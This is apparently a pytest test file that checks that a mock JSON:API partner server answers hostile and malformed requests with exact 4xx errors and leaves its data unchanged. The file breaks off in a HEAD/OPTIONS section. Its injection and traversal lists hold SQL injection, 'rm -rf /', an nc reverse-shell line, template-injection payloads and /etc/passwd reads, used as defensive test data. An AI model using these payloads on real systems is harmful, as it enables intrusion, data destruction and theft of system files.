"""Hostile and malformed input: each case is a precise JSON:API 4xx, and nothing else happens.

Every case here checks three things: the whole error document (status, code, title, detail, source),
that the server keeps serving afterwards, and that the data set is unchanged (click events, and the
links of a few partners read through `GET /api/v1/partners/{id}?include=users`).

Most cases go through Flask's test client; the ones only a real HTTP server can see (raw request
lines, oversize headers, HTTP/1.0, NUL bytes on the wire, 50 MB and chunked bodies) go to a live
`python -m mockserver serve`, started once per WSGI server the CLI offers. `tests/test_errors.py`
covers the ordinary error paths; the cases here are the hostile ones it does not.
"""

from __future__ import annotations

import io
import json
import time
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import SCENARIOS_DIR, SPEC_PATH, make_app
from flask import Flask
from flask.testing import FlaskClient
from support import (
    ALICE,
    API,
    B1,
    BOB,
    CATEGORIES,
    DUPLICATE_PARAMETER,
    INVALID_BODY,
    INVALID_PARAMETER,
    JSON,
    LIST_FILTERS,
    MALFORMED_BODY,
    METHOD_NOT_ALLOWED,
    NOT_FOUND,
    P01,
    P02,
    P03,
    P04,
    P08,
    PAYLOAD_TOO_LARGE,
    UNKNOWN_PARAMETER,
    UNKNOWN_TOKEN,
    UNSUPPORTED_MEDIA_TYPE,
    VALID_CLICK,
    WHOLESALER_TYPES,
    canonical,
    item,
    post_click,
    send,
    server_args,
    server_choices,
)
from werkzeug.test import EnvironBuilder, TestResponse, run_wsgi_app

from mockserver import Settings, create_app
from mockserver.cli import cli
from mockserver.live import LiveServer, Reply, parse_raw_response
from mockserver.scenarios import ScenarioError, list_scenarios, load_scenario

CLICK_BYTES = json.dumps(VALID_CLICK).encode()
MIB = 1024 * 1024


# The partners whose links every case reads before and after, and what the default scenario says.
WATCHED = (P01, P02, P03, P04, P08)
INITIAL_USERS = {P01: [], P02: [ALICE], P03: [ALICE], P04: [BOB], P08: []}
INITIAL_STATE: dict[str, Any] = {
    "click-events": [],
    **{
        pid: {"alice-linked": ALICE in users, "users": users, "included": users}
        for pid, users in INITIAL_USERS.items()
    },
}

Getter = Callable[[str], tuple[int, Any]]


# --------------------------------------------------------------------------------------------------
# helpers


def check_error_document(
    got_status: int, got_mimetype: str, text: str, status: int, *items: dict[str, Any]
) -> None:
    """The response is exactly this JSON:API error document, served as JSON (never HTML)."""
    assert got_status == status, text[:1000]
    assert got_mimetype == JSON, (got_mimetype, text[:300])
    document = json.loads(text)
    assert isinstance(document, dict) and set(document) == {"errors"}, text[:1000]
    if len(items) == 1:
        assert document == {"errors": list(items)}, text[:1000]
    else:
        assert sorted(map(canonical, document["errors"])) == sorted(map(canonical, items)), text[:1000]


def assert_errors(response: TestResponse, status: int, *items: dict[str, Any]) -> None:
    check_error_document(
        response.status_code, response.mimetype or "", response.get_data(as_text=True), status, *items
    )


def assert_live_errors(reply: Reply, status: int, *items: dict[str, Any]) -> None:
    check_error_document(reply.status, reply.mimetype, reply.body.decode("utf-8"), status, *items)


def state_of(get: Getter) -> dict[str, Any]:
    """Click events, and for each watched partner: is Alice linked, its users, its included users."""
    status, events = get("/__admin/click-events")
    assert status == 200, events
    state: dict[str, Any] = {"click-events": events["data"]}
    for pid in WATCHED:
        status, document = get(f"{API}/{pid}?include=users")
        assert status == 200, document
        data = document["data"]
        state[pid] = {
            "alice-linked": data["attributes"]["user-integration-requested"],
            "users": sorted(u["id"] for u in data["relationships"]["users"]["data"]),
            "included": sorted(r["id"] for r in document.get("included", []) if r["type"] == "users"),
        }
    return state


def still_serving(get: Getter) -> None:
    assert get("/__admin/health") == (200, {"status": "ok"})
    status, document = get(f"{API}/{P01}")
    assert status == 200 and document["data"]["id"] == P01, document


def client_getter(client: FlaskClient) -> Getter:
    """GET through a plain client of the same app: state reads need no spec check (and are faster)."""
    reader = plain_client(client.application)

    def get(path: str) -> tuple[int, Any]:
        response = reader.get(path)
        return response.status_code, response.get_json()

    return get


@contextmanager
def unchanged(client: FlaskClient) -> Iterator[None]:
    """The block changes nothing a client can see, and the app still answers afterwards."""
    get = client_getter(client)
    before = state_of(get)
    assert before == INITIAL_STATE
    yield
    still_serving(get)
    assert state_of(get) == before


def plain_client(app: Flask) -> FlaskClient:
    """A client that does not check responses against the spec, to look at undocumented answers."""
    return FlaskClient(app, app.response_class, use_cookies=True)


# --------------------------------------------------------------------------------------------------
# malformed JSON bodies (test_errors covers `{`, `{"data": `, single quotes, `{} {}`)


MALFORMED_JSON = [
    (b'{"data": }', "Expecting value: line 1 column 10 (char 9)"),
    (b'{"data": {},}', "Expecting property name enclosed in double quotes: line 1 column 13 (char 12)"),
    (
        b'{"data": {"type": "partner_click_events", "attributes": {"event_type": "website",}}}',
        "Expecting property name enclosed in double quotes: line 1 column 82 (char 81)",
    ),
    (b'{"data": {} /* comment */}', "Expecting ',' delimiter: line 1 column 13 (char 12)"),
    (CLICK_BYTES[:-1], "Expecting ',' delimiter: line 1 column 83 (char 82)"),
    (CLICK_BYTES + b"}", "Extra data: line 1 column 84 (char 83)"),
    (b"{data: 1}", "Expecting property name enclosed in double quotes: line 1 column 2 (char 1)"),
    (b"[", "Expecting value: line 1 column 2 (char 1)"),
    (b'"', "Unterminated string starting at: line 1 column 1 (char 0)"),
    (b"tru", "Expecting value: line 1 column 1 (char 0)"),
    (b"undefined", "Expecting value: line 1 column 1 (char 0)"),
    (b"\x00", "Expecting value: line 1 column 1 (char 0)"),
    (b'{"data\x00": 1}', "Invalid control character at: line 1 column 7 (char 6)"),
    (b"   ", "Expecting value: line 1 column 4 (char 3)"),
    (b"\n\n", "Expecting value: line 3 column 1 (char 2)"),
    (b"<?xml version='1.0'?><data/>", "Expecting value: line 1 column 1 (char 0)"),
    (
        b"\xef\xbb\xbf" + CLICK_BYTES,
        "Unexpected UTF-8 BOM (decode using utf-8-sig): line 1 column 1 (char 0)",
    ),
]


@pytest.mark.parametrize(("raw", "detail"), MALFORMED_JSON, ids=[repr(r[:24]) for r, _ in MALFORMED_JSON])
def test_malformed_json_is_400_naming_line_and_column(client: FlaskClient, raw: bytes, detail: str) -> None:
    with unchanged(client):
        assert_errors(
            post_click(client, raw),
            400,
            item(MALFORMED_BODY, f"The body is not valid JSON: {detail}", pointer=""),
        )


def test_gzip_body_without_content_encoding_support_is_not_utf8(client: FlaskClient) -> None:
    """A compressed body is not silently decompressed nor half-parsed: it is named as bytes."""
    with unchanged(client):
        assert_errors(
            post_click(client, b"\x1f\x8b\x08\x00\x00\x00\x00\x00", headers={"Content-Encoding": "gzip"}),
            400,
            item(MALFORMED_BODY, "The body is not valid UTF-8 (byte 1)", pointer=""),
        )


# --------------------------------------------------------------------------------------------------
# JSON of the wrong shape where an object is required


WRONG_SHAPES = [
    (b"[1, 2]", "", "The body must be an object, got an array"),
    (b"-1", "", "The body must be an object, got -1"),
    (b"1.5", "", "The body must be an object, got 1.5"),
    ('"é"'.encode(), "", "The body must be an object, got 'é'"),
    (b'{"data": "x"}', "/data", "/data must be an object, got 'x'"),
    (b'{"data": 0}', "/data", "/data must be an object, got 0"),
    (b'{"data": false}', "/data", "/data must be an object, got false"),
    (
        b'{"data": {"type": "partner_click_events", "attributes": "website"}}',
        "/data/attributes",
        "/data/attributes must be an object, got 'website'",
    ),
    (
        json.dumps({"data": {**VALID_CLICK["data"], "relationships": []}}).encode(),
        "/data/relationships",
        "/data/relationships must be an object, got an array",
    ),
    (
        json.dumps({"data": {**VALID_CLICK["data"], "relationships": {"partner": P01}}}).encode(),
        "/data/relationships/partner",
        f"/data/relationships/partner must be an object, got '{P01}'",
    ),
    (
        json.dumps(
            {"data": {**VALID_CLICK["data"], "relationships": {"partner": {"data": [{"id": P01}]}}}}
        ).encode(),
        "/data/relationships/partner/data",
        "/data/relationships/partner/data must be an object, got an array",
    ),
]


@pytest.mark.parametrize(("raw", "pointer", "detail"), WRONG_SHAPES, ids=[d[:45] for _, _, d in WRONG_SHAPES])
def test_json_of_the_wrong_shape_is_422(client: FlaskClient, raw: bytes, pointer: str, detail: str) -> None:
    with unchanged(client):
        assert_errors(post_click(client, raw), 422, item(INVALID_BODY, detail, pointer=pointer))


@pytest.mark.parametrize(
    ("field", "pointer"), [("type", "/data/type"), ("event_type", "/data/attributes/event_type")]
)
def test_array_instead_of_a_string_reports_type_and_enum(
    client: FlaskClient, field: str, pointer: str
) -> None:
    body = json.loads(CLICK_BYTES)
    if field == "type":
        body["data"]["type"] = ["partner_click_events"]
        allowed = "'partner_click_events'"
    else:
        body["data"]["attributes"]["event_type"] = ["website"]
        allowed = "'website', 'video'"
    with unchanged(client):
        assert_errors(
            post_click(client, body),
            422,
            item(INVALID_BODY, f"{pointer} must be a string, got an array", pointer=pointer),
            item(INVALID_BODY, f"{pointer} must be one of {allowed}, got an array", pointer=pointer),
        )


def test_nesting_deep_but_parseable_is_a_schema_error(client: FlaskClient) -> None:
    """500 levels parse (Python's limit is ~1000): the schema rejects the value, nothing recurses further."""
    depth = 500
    raw = b'{"data": {"type": "partner_click_events", "attributes": {"event_type": '
    raw += b"[" * depth + b"]" * depth + b"}}}"
    pointer = "/data/attributes/event_type"
    with unchanged(client):
        assert_errors(
            post_click(client, raw),
            422,
            item(INVALID_BODY, f"{pointer} must be a string, got an array", pointer=pointer),
            item(INVALID_BODY, f"{pointer} must be one of 'website', 'video', got an array", pointer=pointer),
        )


# --------------------------------------------------------------------------------------------------
# Content-Type (test_errors covers text/plain, form, multipart, json-patch and no header)


@pytest.mark.parametrize(
    "content_type",
    [
        "application/xml",
        "application/jsonx",
        "application/*",
        "*/*",
        "json",
        "text/json",
        "application/ld+json",
    ],
)
def test_click_with_a_json_lookalike_content_type_is_415(client: FlaskClient, content_type: str) -> None:
    with unchanged(client):
        assert_errors(
            post_click(client, CLICK_BYTES, content_type=content_type),
            415,
            item(
                UNSUPPORTED_MEDIA_TYPE,
                f"Content-Type must be application/json or application/vnd.api+json, got {content_type}",
                header="Content-Type",
            ),
        )


# --------------------------------------------------------------------------------------------------
# body size: the limit is configurable and exact


def _padded_click(size: int) -> bytes:
    """A valid click body padded with JSON whitespace to exactly `size` bytes."""
    assert size >= len(CLICK_BYTES)
    return CLICK_BYTES + b" " * (size - len(CLICK_BYTES))


@pytest.mark.parametrize("content_type", [JSON, "application/vnd.api+json"])
def test_body_one_byte_over_a_configured_limit_is_413(content_type: str) -> None:
    app = make_app(scenario="default", max_body_bytes=1000)
    with app.test_client() as client, unchanged(client):
        assert_errors(
            post_click(client, _padded_click(1001), content_type=content_type),
            413,
            item(
                PAYLOAD_TOO_LARGE,
                "The body is 1001 bytes; at most 1000 bytes are accepted",
                header="Content-Length",
            ),
        )


def test_body_exactly_at_the_limit_is_accepted() -> None:
    app = make_app(scenario="default", max_body_bytes=1000)
    with app.test_client() as client:
        response = post_click(client, _padded_click(1000))
        assert response.status_code == 201, response.get_data(as_text=True)
        assert len(client_getter(client)("/__admin/click-events")[1]["data"]) == 1


def test_body_of_exactly_one_mib_is_accepted_by_default(app: Flask) -> None:
    with app.test_client() as client:
        response = post_click(client, _padded_click(MIB))
        assert response.status_code == 201, response.get_data(as_text=True)[:300]


def test_body_over_the_limit_without_content_length_is_413() -> None:
    """A streamed body (chunked: no CONTENT_LENGTH, `wsgi.input_terminated` set, as granian and
    other servers pass it) is held to the same limit, not silently cut at it.

    Werkzeug then reads at most `max_body_bytes` and stops without an error; the app must notice
    that more was sent. Here the first 1000 bytes are a valid click and the rest is garbage.
    """
    app = make_app(scenario="default", max_body_bytes=1000)
    body = _padded_click(1000) + b"garbage that must not be ignored"
    environ = EnvironBuilder(
        path=f"{API}/{P01}/click_event", method="POST", data=body, content_type=JSON
    ).get_environ()
    del environ["CONTENT_LENGTH"]
    environ["wsgi.input_terminated"] = True
    client = plain_client(app)
    with unchanged(client):
        iterable, status, headers = run_wsgi_app(app, environ, buffered=True)
        text = b"".join(iterable).decode("utf-8")
        assert status.startswith("413 "), (status, text[:300])
        assert headers.get("Content-Type") == JSON
        [error] = json.loads(text)["errors"]
        assert (error["status"], error["code"], error["title"]) == (
            "413",
            "payload_too_large",
            "Request body too large",
        )
        assert "1000 bytes" in error["detail"], error["detail"]


class _CountingInput(io.BytesIO):
    """A request body that remembers how much of it the server read."""

    consumed = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.consumed += len(chunk)
        return chunk


@pytest.mark.parametrize(("method", "status_ok"), [("PATCH", 200), ("DELETE", 204)])
def test_oversize_body_on_an_operation_without_a_body_is_ignored_unread(method: str, status_ok: int) -> None:
    """connect/disconnect take no body: an oversize one is neither read into memory nor refused
    (the spec documents no 413 there); the operation does what it does without a body."""
    app = make_app(scenario="default", max_body_bytes=1000)
    body = _CountingInput(b"x" * 50_000)
    environ = EnvironBuilder(
        path=f"{API}/{P08}/connect", method=method, data=b"", content_type="text/plain"
    ).get_environ()
    environ["wsgi.input"] = body
    environ["CONTENT_LENGTH"] = str(len(body.getvalue()))
    iterable, status, _ = run_wsgi_app(app, environ, buffered=True)
    b"".join(iterable)
    assert status.startswith(f"{status_ok} "), status
    assert body.consumed == 0


# --------------------------------------------------------------------------------------------------
# repeated query keys (test_errors covers two values of each single-valued parameter)


DUPLICATE_CASES = [
    (
        f"{API}/available?search=a&search=a&search=a",
        [item(DUPLICATE_PARAMETER, "search must be given once, got 3 values", parameter="search")],
    ),
    (
        f"{API}/{P01}?include=users&include=partner_integrations&include=users",
        [item(DUPLICATE_PARAMETER, "include must be given once, got 3 values", parameter="include")],
    ),
    (
        # The repeat is reported; the bad second value is not looked at.
        f"{API}?business_uuid={B1}&business_uuid=%27%20OR%201%3D1%20--",
        [
            item(
                DUPLICATE_PARAMETER,
                "business_uuid must be given once, got 2 values",
                parameter="business_uuid",
            )
        ],
    ),
    (
        f"{API}/wholesalers?page=&page=",
        [item(DUPLICATE_PARAMETER, "page must be given once, got 2 values", parameter="page")],
    ),
    (
        f"{API}?business_uuid={B1}&filter[active]=true&filter[active]=false",
        [
            item(
                DUPLICATE_PARAMETER,
                "filter[active] must be given once, got 2 values",
                parameter="filter[active]",
            )
        ],
    ),
    (
        f"{API}/available?filter[categories]=pos&filter[categories]=pos",
        [
            item(
                DUPLICATE_PARAMETER,
                "filter[categories] must be given once, got 2 values",
                parameter="filter[categories]",
            )
        ],
    ),
    (
        f"{API}?business_uuid={B1}&search=a&search=b&filter[bogus]=1",
        [
            item(DUPLICATE_PARAMETER, "search must be given once, got 2 values", parameter="search"),
            item(
                UNKNOWN_PARAMETER,
                f"Unknown filter filter[bogus]; known filters: {LIST_FILTERS}",
                parameter="filter[bogus]",
            ),
        ],
    ),
]


@pytest.mark.parametrize(
    ("url", "items"), DUPLICATE_CASES, ids=[u.removeprefix(API) for u, _ in DUPLICATE_CASES]
)
def test_repeated_query_keys(client: FlaskClient, url: str, items: list[dict[str, Any]]) -> None:
    with unchanged(client):
        assert_errors(send(client, "GET", url), 400, *items)


# --------------------------------------------------------------------------------------------------
# page and per_page (test_errors covers 0, -1, abc, 1e9, 1.0, empty, 20 digits; per_page 0/101/1000/ten)


PAGING_CASES = [
    ("page", "-12345678901234567890", "page must be at least 1, got -12345678901234567890"),
    ("page", "99999999999999999999", "page must be at most 2147483647, got 99999999999999999999"),
    ("page", "2147483648", "page must be at most 2147483647, got 2147483648"),
    ("page", "0x10", "page must be an integer, got '0x10'"),
    ("page", "2.5", "page must be an integer, got '2.5'"),
    ("page", "NaN", "page must be an integer, got 'NaN'"),
    ("page", "Infinity", "page must be an integer, got 'Infinity'"),
    ("page", "1%20000", "page must be an integer, got '1 000'"),
    ("page", "%00", "page must be an integer, got '\\x00'"),
    ("page", "1%00", "page must be an integer, got '1\\x00'"),
    ("page", "%F0%9F%98%80", "page must be an integer, got '😀'"),
    ("page", "%27%20OR%201%3D1%20--", 'page must be an integer, got "\' OR 1=1 --"'),
    ("per_page", "-5", "per_page must be at least 1, got -5"),
    ("per_page", "2147483648", "per_page must be at most 100, got 2147483648"),
    ("per_page", "99999999999999999999", "per_page must be at most 100, got 99999999999999999999"),
    ("per_page", "1e2", "per_page must be an integer, got '1e2'"),
    ("per_page", "%00", "per_page must be an integer, got '\\x00'"),
    ("per_page", "{{7*7}}", "per_page must be an integer, got '{{7*7}}'"),
]


@pytest.mark.parametrize(
    "base", [f"{API}?business_uuid={B1}&", f"{API}/wholesalers?"], ids=["list", "wholesalers"]
)
@pytest.mark.parametrize(
    ("name", "value", "detail"), PAGING_CASES, ids=[f"{n}={v}" for n, v, _ in PAGING_CASES]
)
def test_hostile_paging_values(client: FlaskClient, base: str, name: str, value: str, detail: str) -> None:
    with unchanged(client):
        assert_errors(
            send(client, "GET", f"{base}{name}={value}"), 400, item(INVALID_PARAMETER, detail, parameter=name)
        )


def test_a_page_number_of_5000_digits_is_out_of_range_not_a_non_integer(client: FlaskClient) -> None:
    """A number is a number however long: the detail must say "at most", not "must be an integer".

    Python refuses int() on strings over 4300 digits (ValueError), which the cast reports as
    "page must be an integer, got '999…'": wrong advice for a client that did send an integer.
    """
    digits = "9" * 5000
    with unchanged(client):
        response = send(client, "GET", f"{API}/wholesalers?page={digits}")
        assert response.status_code == 400, response.get_data(as_text=True)[:300]
        [error] = response.get_json()["errors"]
        assert (error["code"], error["source"]) == ("invalid_parameter", {"parameter": "page"})
        assert error["detail"].startswith("page must be at most 2147483647, got "), error["detail"]
        assert len(error["detail"]) < 200, "the detail must not echo 5000 digits"


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("page", "1_0", "'1_0'"),  # int("1_0") == 10: the server would serve page 10
        ("per_page", "1_0", "'1_0'"),
        ("page", "%EF%BC%91", "'１'"),  # FULLWIDTH DIGIT ONE: int("１") == 1
        ("page", "%D9%A3", "'٣'"),  # ARABIC-INDIC DIGIT THREE: int("٣") == 3
        ("per_page", "%E0%A5%AB", "'५'"),  # DEVANAGARI DIGIT FIVE: int("५") == 5
    ],
)
def test_integers_are_ascii_digits_only(client: FlaskClient, name: str, value: str, shown: str) -> None:
    """An integer query parameter is an optional sign and ASCII digits; Python's int() accepts more.

    `page=1_0` must not quietly mean page 10, nor a fullwidth or Arabic-Indic digit a number.
    """
    with unchanged(client):
        assert_errors(
            send(client, "GET", f"{API}/wholesalers?{name}={value}"),
            400,
            item(INVALID_PARAMETER, f"{name} must be an integer, got {shown}", parameter=name),
        )


# --------------------------------------------------------------------------------------------------
# unicode, emoji, RTL, NUL and very long strings in search and filters


def _list(client: FlaskClient, path: str, **params: str) -> TestResponse:
    return send(client, "GET", f"{path}?{urllib.parse.urlencode(params)}")


def _assert_empty_result_echoing_search(response: TestResponse, search: str) -> None:
    """200, nothing matched, and the paging links carry the search back exactly as sent."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    document = response.get_json()
    assert document["data"] == []
    assert document["meta"] == {"total-count": 0, "total-pages": 0}
    for name in ("self", "first", "last"):
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(document["links"][name]).query)
        assert query["search"] == [search], (name, document["links"][name])


ODD_SEARCHES = [
    "😀",
    "👩‍👩‍👧‍👦",  # a ZWJ sequence
    "مرحبا",  # RTL
    "\u202eSOP potlliT",  # RIGHT-TO-LEFT OVERRIDE + reversed "TillTop POS"
    "שלום\u200f",
    "\x00",
    "TillTop\x00",
    "e\u0301",  # combining acute accent
    "\ufeff",
    "\U0010ffff",
    "%",
    "_",
    ".*",
    "\\",
    "a" * 256,  # the longest search allowed
    "😀" * 256,  # the limit counts characters, not bytes (1024) nor UTF-16 units (512)
]


@pytest.mark.parametrize("search", ODD_SEARCHES, ids=[repr(s[:12]) for s in ODD_SEARCHES])
@pytest.mark.parametrize("path", [API, f"{API}/available"], ids=["list", "available"])
def test_odd_searches_are_plain_text_matching_nothing(client: FlaskClient, path: str, search: str) -> None:
    params = {"business_uuid": B1} if path == API else {}
    with unchanged(client):
        _assert_empty_result_echoing_search(_list(client, path, **params, search=search), search)


def test_search_still_matches_literally_around_odd_input(client: FlaskClient) -> None:
    """A control: the same machinery finds a partner whose name holds the text."""
    response = _list(client, API, business_uuid=B1, search="tilltop p")
    assert [p["attributes"]["name"] for p in response.get_json()["data"]] == ["TillTop POS"]


@pytest.mark.parametrize(
    ("search", "length"),
    [("x" * 10240, 10240), ("😀" * 257, 257), ("مرحبا" * 2048, 10240), ("\x00" * 10240, 10240)],
    ids=["ascii-10k", "emoji-257", "rtl-10k", "nul-10k"],
)
def test_overlong_search_is_400_counting_characters(client: FlaskClient, search: str, length: int) -> None:
    with unchanged(client):
        assert_errors(
            _list(client, f"{API}/available", search=search),
            400,
            item(
                INVALID_PARAMETER,
                f"search must be at most 256 characters long, got {length}",
                parameter="search",
            ),
        )


ODD_FILTERS = [
    (
        "filter[country_codes]",
        "\x00\x00",
        "filter[country_codes] item 1 must match the pattern ^[A-Z]{2}$, got '\\x00\\x00'",
    ),
    (
        "filter[country_codes][]",
        "ＧＢ",  # fullwidth letters are not [A-Z]
        "filter[country_codes][] item 1 must match the pattern ^[A-Z]{2}$, got 'ＧＢ'",
    ),
    (
        "filter[country_codes]",
        "GB,\u202eBG",
        "filter[country_codes] item 2 must match the pattern ^[A-Z]{2}$, got '\\u202eBG'",
    ),
    ("filter[categories]", "💥", f"filter[categories] item 1 must be one of {CATEGORIES}, got '💥'"),
    (
        "filter[categories]",
        "pos\x00",
        f"filter[categories] item 1 must be one of {CATEGORIES}, got 'pos\\x00'",
    ),
    (
        "filter[categories][]",
        "a" * 10240,
        f"filter[categories][] item 1 must be one of {CATEGORIES}, got '{'a' * 60}…'",
    ),
    (
        "filter[wholesaler_categories]",
        "wine,نبيذ",
        f"filter[wholesaler_categories] item 2 must be one of {WHOLESALER_TYPES}, got 'نبيذ'",
    ),
    ("filter[preferred]", "ｔｒｕｅ", "filter[preferred] must be a boolean (true or false), got 'ｔｒｕｅ'"),
    ("filter[active]", "true\x00", "filter[active] must be a boolean (true or false), got 'true\\x00'"),
    ("business_uuid", "😀", "business_uuid must be a valid uuid, got '😀'"),
]


@pytest.mark.parametrize(
    ("key", "value", "detail"), ODD_FILTERS, ids=[f"{k}={v[:10]!r}" for k, v, _ in ODD_FILTERS]
)
def test_odd_filter_values_are_400_with_an_escaped_echo(
    client: FlaskClient, key: str, value: str, detail: str
) -> None:
    """Control and bidi characters are escaped in the detail, so a message cannot be visually spoofed."""
    params = {"business_uuid": B1, key: value} if key != "business_uuid" else {key: value}
    with unchanged(client):
        assert_errors(_list(client, API, **params), 400, item(INVALID_PARAMETER, detail, parameter=key))


def test_rtl_status_filter_on_available(client: FlaskClient) -> None:
    with unchanged(client):
        assert_errors(
            _list(client, f"{API}/available", **{"filter[status]": "available\u202e"}),
            400,
            item(
                INVALID_PARAMETER,
                "filter[status] item 1 must be one of 'available', 'coming_soon', got 'available\\u202e'",
                parameter="filter[status]",
            ),
        )


# --------------------------------------------------------------------------------------------------
# injection strings: plain data, never evaluated


INJECTIONS = [
    "' OR 1=1 --",
    "'; DROP TABLE partners; --",
    '" OR ""="',
    "1 UNION SELECT * FROM users",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 127.0.0.1 4444",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config.__class__.__init__.__globals__}}",
    "%s%s%s%n",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "__import__('os').system('id')",
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("path", [API, f"{API}/available"], ids=["list", "available"])
def test_injection_in_search_is_plain_data(client: FlaskClient, path: str, value: str) -> None:
    params = {"business_uuid": B1} if path == API else {}
    with unchanged(client):
        response = _list(client, path, **params, search=value)
        _assert_empty_result_echoing_search(response, value)
        text = response.get_data(as_text=True)
        assert "49" not in text, "a template expression was evaluated"
        assert "root:x:0:0" not in text and "uid=0(" not in text, "a command or file read ran"


def test_shell_in_search_runs_nothing(client: FlaskClient, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    for value in (f"$(touch {marker})", f"`touch {marker}`", f"; touch {marker}"):
        _assert_empty_result_echoing_search(_list(client, f"{API}/available", search=value), value)
    assert not marker.exists()


ID_OPERATIONS = [("GET", ""), ("POST", "/click_event"), ("PATCH", "/connect"), ("DELETE", "/connect")]
SEGMENT_INJECTIONS = [v for v in INJECTIONS if "/" not in v]


def _id_request(client: FlaskClient, method: str, suffix: str, raw_id: str) -> TestResponse:
    url = f"{API}/{urllib.parse.quote(raw_id, safe='')}{suffix}"
    if method == "POST":
        return send(client, method, url, CLICK_BYTES, JSON)
    return send(client, method, url)


@pytest.mark.parametrize(("method", "suffix"), ID_OPERATIONS, ids=[f"{m}{s}" for m, s in ID_OPERATIONS])
@pytest.mark.parametrize("value", SEGMENT_INJECTIONS)
def test_injection_as_partner_id_is_400(client: FlaskClient, method: str, suffix: str, value: str) -> None:
    with unchanged(client):
        response = _id_request(client, method, suffix, value)
        assert_errors(
            response, 400, item(INVALID_PARAMETER, f"id must be a valid uuid, got {value!r}", parameter="id")
        )
        assert "49" not in response.get_data(as_text=True)


@pytest.mark.parametrize(("method", "suffix"), ID_OPERATIONS, ids=[f"{m}{s}" for m, s in ID_OPERATIONS])
@pytest.mark.parametrize("value", [v for v in INJECTIONS if "/" in v])
def test_injection_with_a_slash_as_partner_id_is_a_json_404(
    client: FlaskClient, method: str, suffix: str, value: str
) -> None:
    """A `/` (even sent as %2F) splits the segment: no operation is served there."""
    with unchanged(client):
        assert_errors(
            _id_request(client, method, suffix, value),
            404,
            item(NOT_FOUND, f"No operation is served at {API}/{value}{suffix}"),
        )


def test_injection_in_body_and_token_is_plain_data(client: FlaskClient) -> None:
    body = {"data": {"type": "partner_click_events", "attributes": {"event_type": "{{7*7}}"}}}
    with unchanged(client):
        assert_errors(
            post_click(client, body),
            422,
            item(
                INVALID_BODY,
                "/data/attributes/event_type must be one of 'website', 'video', got '{{7*7}}'",
                pointer="/data/attributes/event_type",
            ),
        )
        for token in ("' OR 1=1 --", "{{7*7}}", "${7*7}", "$(id)"):
            assert_errors(
                send(client, "GET", f"{API}/{P01}", headers={"Authorization": f"Bearer {token}"}),
                401,
                item(
                    UNKNOWN_TOKEN,
                    "The bearer token does not belong to any user of the data set",
                    header="Authorization",
                ),
            )


def test_template_strings_in_a_scenario_are_served_literally(tmp_path: Path) -> None:
    """Data is data on the way out too: a partner named `{{7*7}}` is called `{{7*7}}`."""
    marker = tmp_path / "pwned"
    name = f"{{{{7*7}}}} ${{7*7}} $(touch {marker}) <script>alert(1)</script>"
    text = (SCENARIOS_DIR / "default.yaml").read_text(encoding="utf-8")
    assert "    name: TillTop POS\n" in text
    path = tmp_path / "templated.yaml"
    path.write_text(
        text.replace("    name: TillTop POS\n", f"    name: {json.dumps(name)}\n"), encoding="utf-8"
    )
    app = make_app(scenario=str(path))
    with app.test_client() as client:
        response = send(client, "GET", f"{API}/{P02}")
        assert response.status_code == 200
        assert response.get_json()["data"]["attributes"]["name"] == name
        assert "49" not in response.get_data(as_text=True)
        found = _list(client, API, business_uuid=B1, search="{{7*7}}").get_json()["data"]
        assert [p["id"] for p in found] == [P02]
    assert not marker.exists()


# --------------------------------------------------------------------------------------------------
# path traversal in ids


TRAVERSALS = [
    # (path as sent, method, status, expected detail, source or None)
    (f"{API}/..%2f..%2fetc%2fpasswd", "GET", 404, f"No operation is served at {API}/../../etc/passwd"),
    (f"{API}/../../etc/passwd", "GET", 404, f"No operation is served at {API}/../../etc/passwd"),
    (
        f"{API}/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "GET",
        404,
        f"No operation is served at {API}/../../etc/passwd",
    ),
    (
        f"{API}/....%2f%2f....%2f%2fetc%2fpasswd",
        "GET",
        404,
        f"No operation is served at {API}/....//....//etc/passwd",
    ),
    (
        f"{API}/..%2f..%2fetc%2fpasswd/connect",
        "PATCH",
        404,
        f"No operation is served at {API}/../../etc/passwd/connect",
    ),
    (
        f"{API}/..%2f..%2fetc%2fpasswd/connect",
        "DELETE",
        404,
        f"No operation is served at {API}/../../etc/passwd/connect",
    ),
    (
        f"{API}/..%2f..%2f__admin%2freset/click_event",
        "POST",
        404,
        f"No operation is served at {API}/../../__admin/reset/click_event",
    ),
    (
        "/__admin/../api/v1/partners/available",
        "GET",
        404,
        "No operation is served at /__admin/../api/v1/partners/available",
    ),
    (f"{API}/..", "GET", 400, "id must be a valid uuid, got '..'"),
    (f"{API}/%2e%2e", "GET", 400, "id must be a valid uuid, got '..'"),
    (f"{API}/%2e%2e/connect", "PATCH", 400, "id must be a valid uuid, got '..'"),
    (f"{API}/..%5c..%5cetc%5cpasswd", "GET", 400, "id must be a valid uuid, got '..\\\\..\\\\etc\\\\passwd'"),
    (
        f"{API}/%252e%252e%252fetc%252fpasswd",
        "GET",
        400,
        "id must be a valid uuid, got '%2e%2e%2fetc%2fpasswd'",
    ),
    (f"{API}/..;%2f..;%2fetc%2fpasswd", "GET", 404, f"No operation is served at {API}/..;/..;/etc/passwd"),
]


@pytest.mark.parametrize(
    ("path", "method", "status", "detail"), TRAVERSALS, ids=[f"{m} {p}" for p, m, _, _ in TRAVERSALS]
)
def test_path_traversal_in_ids(app: Flask, path: str, method: str, status: int, detail: str) -> None:
    # A plain client: openapi-core, checking the response, would resolve the `..` in the URL itself.
    client = plain_client(app)
    expected = item(INVALID_PARAMETER, detail, parameter="id") if status == 400 else item(NOT_FOUND, detail)
    with unchanged(client):
        body, content_type = (CLICK_BYTES, JSON) if method == "POST" else (None, None)
        response = send(client, method, path, body, content_type)
        assert_errors(response, status, expected)
        assert "root:x:0:0" not in response.get_data(as_text=True)


# --------------------------------------------------------------------------------------------------
# HEAD and OPTIONS on every path


GET_TARGETS = [
    f"{API}?business_uuid={B1}",
